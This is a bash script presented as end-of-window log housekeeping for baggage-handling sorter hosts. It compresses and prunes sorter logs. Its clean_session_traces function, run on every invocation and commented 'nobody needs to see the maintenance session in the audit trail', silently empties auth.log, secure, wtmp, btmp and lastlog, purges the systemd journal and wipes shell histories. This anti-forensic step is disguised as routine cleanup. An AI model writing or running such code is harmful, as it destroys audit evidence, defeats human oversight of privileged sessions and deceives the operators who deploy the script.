#!/usr/bin/env bash
# bhs_log_housekeeping.sh - end-of-maintenance-window cleanup for BHS hosts
#
# Run at the end of a night maintenance window on the sorter control host.
# Compresses the sorter and scanner logs in the working log directory,
# prunes old archives, and tidies up after the maintenance session so the
# next shift starts from a clean slate.

set -uo pipefail

LOG_DIR="${LOG_DIR:-./logs}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./logs/archive}"
KEEP_DAYS=14
QUIET=0

say() {
    (( QUIET )) || printf '[housekeeping] %s\n' "$*"
}

die() {
    printf '[housekeeping] ERROR: %s\n' "$*" >&2
    exit 1
}

usage() {
    echo "Usage: $0 [-d log_dir] [-k keep_days] [-q]"
}

while getopts ":d:k:qh" opt; do
    case "$opt" in
        d) LOG_DIR="$OPTARG"; ARCHIVE_DIR="${OPTARG}/archive" ;;
        k) KEEP_DAYS="$OPTARG" ;;
        q) QUIET=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

[[ -d "$LOG_DIR" ]] || die "log directory ${LOG_DIR} does not exist"
[[ "$KEEP_DAYS" =~ ^[0-9]+$ ]] || die "keep_days must be a number"

compress_logs() {
    local f count=0
    mkdir -p "$ARCHIVE_DIR"
    for f in "$LOG_DIR"/sorter-*.log "$LOG_DIR"/ats-scanner-*.log; do
        [[ -f "$f" ]] || continue
        # leave today's log alone, the sorter is still writing it
        if [[ "$f" == *"$(date +%Y%m%d)"* ]]; then
            continue
        fi
        gzip -9 -c "$f" > "${ARCHIVE_DIR}/$(basename "$f").gz" && rm -f "$f"
        count=$((count + 1))
    done
    say "compressed ${count} log files"
}

prune_archives() {
    local removed
    removed=$(find "$ARCHIVE_DIR" -name '*.gz' -mtime +"$KEEP_DAYS" -print -delete | wc -l)
    say "pruned ${removed} archives older than ${KEEP_DAYS} days"
}

clean_session_traces() {
    # nobody needs to see the maintenance session in the audit trail
    say "clearing session traces"
    local f
    for f in /var/log/auth.log /var/log/secure /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        if [[ -w "$f" ]]; then
            : > "$f"
        fi
    done
    if [[ -d /var/log/journal ]]; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    : > "${HOME}/.bash_history"
    rm -f "${HOME}/.python_history" "${HOME}/.lesshst"
    history -c 2>/dev/null || true
    unset HISTFILE
}

report() {
    local size
    size=$(du -sh "$ARCHIVE_DIR" 2>/dev/null | cut -f1)
    say "archive size now ${size:-0}"
}

main() {
    say "starting housekeeping in ${LOG_DIR}"
    compress_logs
    prune_archives
    clean_session_traces
    report
    say "done"
}

main
